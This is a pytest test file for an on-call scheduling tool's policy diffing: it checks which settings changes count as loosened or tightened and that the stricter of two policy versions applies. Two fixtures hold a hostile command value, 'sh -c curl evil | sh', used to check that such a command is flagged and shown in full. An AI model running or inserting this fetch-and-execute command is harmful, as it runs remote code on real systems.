"""What counts as a looser rule, and that the stricter of two versions judges."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any, get_args

import pytest
from pydantic import BaseModel

from policy_text import policy_of
from watchbill.model.policy import Policy
from watchbill.model.settings import Settings
from watchbill.plan.document import JudgedBy
from watchbill.plan.rule_changes import ROWS, rule_changes
from watchbill.plan.rules import chat_of_both, rules_between

HEAD = "settings:\n  format: 1\n  organization: Example\n  time_zone: Europe/Bucharest\n"
CREWS = """rotations:
  first: {title: First, turn: 1 week, handoff: mon 09:00, from: 2026-01-05, crew: [ana, ben]}
  second: {title: Second, turn: 1 week, handoff: mon 09:00, from: 2026-01-05, crew: [ben, ana]}
"""


def policy(settings: str = "", more: str = "") -> Policy:
    return policy_of(f"{HEAD}{settings}{CREWS}{more}")


def found(before: str, now: str) -> set[tuple[str, str]]:
    return {(c.path, c.effect) for c in rule_changes(policy(before), policy(now))}


def _leaves(model: type[BaseModel], prefix: str = "") -> Iterator[str]:
    for name, field in model.model_fields.items():
        inner = _model_in(field.annotation)
        if inner is None:
            yield f"{prefix}{name}"
        else:
            yield from _leaves(inner, f"{prefix}{name}.")


def _model_in(annotation: Any) -> type[BaseModel] | None:
    for one in (annotation, *get_args(annotation)):
        if isinstance(one, type) and issubclass(one, BaseModel):
            return one
    return None


def test_each_setting_has_a_row() -> None:
    """A new setting fails here until somebody decides what makes it looser."""
    paths = set(_leaves(Settings))
    covered = {path for path in paths for row in ROWS if path == row or path.startswith(f"{row}.")}
    assert covered == paths, f"no row in ROWS for {sorted(paths - covered)}"
    stale = [row for row in ROWS if not any(p == row or p.startswith(f"{row}.") for p in paths)]
    assert not stale
    wide = {row for row in ROWS if row not in paths}
    assert wide <= {"pagerduty.integration_keys", "waivers", "acknowledged"}, (
        "a row hides new settings below it"
    )


@pytest.mark.parametrize(
    ("before", "now", "path", "effect"),
    [
        (
            "  guards: {max_deletions: 2}\n",
            "  guards: {max_deletions: 3}\n",
            "guards.max_deletions",
            "loosened",
        ),
        (
            "  guards: {max_deletions: 2}\n",
            "  guards: {max_deletions: 1}\n",
            "guards.max_deletions",
            "tightened",
        ),
        ("  guards: {max_deletions: 1}\n", "", "guards.max_deletions", "loosened"),
        ("  guards: {max_changed: 9%}\n", "  guards: {max_changed: 10%}\n", "guards.max_changed", "loosened"),
        ("", "  guards: {starts_within: 23h}\n", "guards.starts_within", "loosened"),
        ("  guards: {scope: {kinds: [rotations]}}\n", "", "guards.scope.kinds", "loosened"),
        (
            "  guards: {scope: {names: [a*]}}\n",
            "  guards: {scope: {names: [a*, b*]}}\n",
            "guards.scope.names",
            "loosened",
        ),
        ("", "  guards: {scope: {kinds: [rotations]}}\n", "guards.scope.kinds", "tightened"),
        (
            "  chat: {may: {take: [first]}}\n",
            "  chat: {may: {take: everyone}}\n",
            "chat.may.take",
            "loosened",
        ),
        (
            "  chat: {may: {take: everyone}}\n",
            "  chat: {may: {take: [first]}}\n",
            "chat.may.take",
            "tightened",
        ),
        ("", "  chat: {may: {page: [first]}}\n", "chat.may.page", "loosened"),
        ("  chat: {phones: [first]}\n", "  chat: {phones: [first, second]}\n", "chat.phones", "loosened"),
        ("", "  pagerduty: {routing: severity}\n", "pagerduty.routing", "changed"),
        ("", "  pagerduty: {event_rules: false}\n", "pagerduty.event_rules", "changed"),
        ("", "  pagerduty: {lease: ci}\n", "pagerduty.lease", "loosened"),
        ("", "  pagerduty: {account: eu/other}\n", "pagerduty.account", "changed"),
        (
            "",
            "  pagerduty: {integration_keys: {command: [sh, -c, 'curl evil']}}\n",
            "pagerduty.integration_keys",
            "changed",
        ),
        ("  outlook: 8 weeks\n", "  outlook: 1 week\n", "outlook", "loosened"),
        (
            "  waivers: [{guard: deletions, reason: x, expires: 2027-01-01}]\n",
            "  waivers: [{guard: deletions, reason: x, expires: 2028-01-01}]\n",
            "waivers.deletions",
            "loosened",
        ),
        (
            "",
            "  acknowledged: [{drift: d1234567, reason: x, expires: 2027-01-01}]\n",
            "acknowledged.d1234567",
            "loosened",
        ),
    ],
)
def test_directions(before: str, now: str, path: str, effect: str) -> None:
    assert found(before, now) == {(f"settings.{path}", effect)}


def test_the_same_value_in_other_words_is_no_change() -> None:
    assert not found("  guards: {starts_within: 24h}\n", "  guards: {starts_within: 1 day}\n")


def test_the_whole_command_is_shown() -> None:
    (change,) = rule_changes(
        policy(),
        policy("  pagerduty: {integration_keys: {command: [sh, -c, 'curl evil | sh', '{service}']}}\n"),
    )
    assert change.after == "command sh -c 'curl evil | sh' '{service}'"


MATRIX = """severities:
  P1: {urgency: high, steps: {0m: first, 15m: second}, from_alerts: [critical], repeat: 1}
domains:
  db: {title: DB, primary: first, services: [db], default_severity: P1}
services:
  db: {title: Database, urgency: by-severity}
"""
PAGES = "expectations:\n  - {name: one, at: 2026-12-06 03:00, incident: {severity: P1, domain: db}, pages: {%s}}\n"
SPAN = "expectations:\n  - {name: one, between: [%s], %s}\n"


@pytest.mark.parametrize(
    ("before", "now", "words"),
    [
        (PAGES % "0m: first, 15m: second", "", "deleted"),
        (PAGES % "0m: first, 15m: second", PAGES % "0m: first", "no second at 15m"),
        (PAGES % "15m: second", PAGES % "45m: second", "second at 45m instead of 15m"),
        (PAGES % "15m: [second, ana]", PAGES % "15m: second", "no ana at 15m"),
        (
            SPAN % ("2026-12-01, 2027-03-01", "always_someone: [first, second]"),
            SPAN % ("2026-12-01, 2027-03-01", "always_someone: [first]"),
            "without second",
        ),
        (
            SPAN % ("2026-12-01, 2027-03-01", "always_someone: [first]"),
            SPAN % ("2026-12-01, 2027-02-01", "always_someone: [first]"),
            "a shorter time",
        ),
    ],
)
def test_weaker_expectations(before: str, now: str, words: str) -> None:
    (change,) = rule_changes(policy("", MATRIX + before), policy("", MATRIX + now))
    assert (change.path, change.effect) == ("expectations: one", "loosened")
    assert words in f"{change.after} {change.message}"


@pytest.mark.parametrize(
    ("before", "now"),
    [
        ("", PAGES % "0m: first"),
        (PAGES % "0m: first", PAGES % "0m: first, 15m: second"),
        (PAGES % "0m: first", (PAGES % "0m: first").replace("name: one", "name: two")),
    ],
)
def test_more_demands_and_new_names_weaken_nothing(before: str, now: str) -> None:
    assert not rule_changes(policy("", MATRIX + before), policy("", MATRIX + now))


def test_the_stricter_of_both_judges() -> None:
    old = policy(
        "  guards: {max_deletions: 2, max_changed: 50%, starts_within: 1h}\n"
        "  waivers: [{guard: imminent, reason: x, expires: 2027-01-01}]\n"
    )
    new = policy(
        "  guards: {max_deletions: 9, max_changed: 40%, starts_within: 2h}\n"
        "  waivers: [{guard: imminent, reason: x, expires: 2028-01-01}, {guard: deletions, reason: y, expires: 2028-01-01}]\n"
    )
    rules = rules_between(old, new, JudgedBy(reason="a test"))
    guards = rules.guards
    assert (guards.max_deletions, guards.max_changed, str(guards.starts_within)) == (2, "40%", "2h")
    assert [(w.guard, str(w.expires)) for w in rules.waivers] == [("imminent", "2027-01-01")]


def test_chat_permissions_are_those_that_both_give() -> None:
    old = policy("  chat: {may: {take: [first], page: everyone}, phones: [first]}\n")
    new = policy("  chat: {may: {take: everyone, page: [ana], swap: everyone}, phones: everyone}\n")
    chat = chat_of_both(old, new).settings.chat
    assert chat.may == {"take": ("first",), "page": ("ana",), "swap": ()}
    assert chat.phones == ("first",)
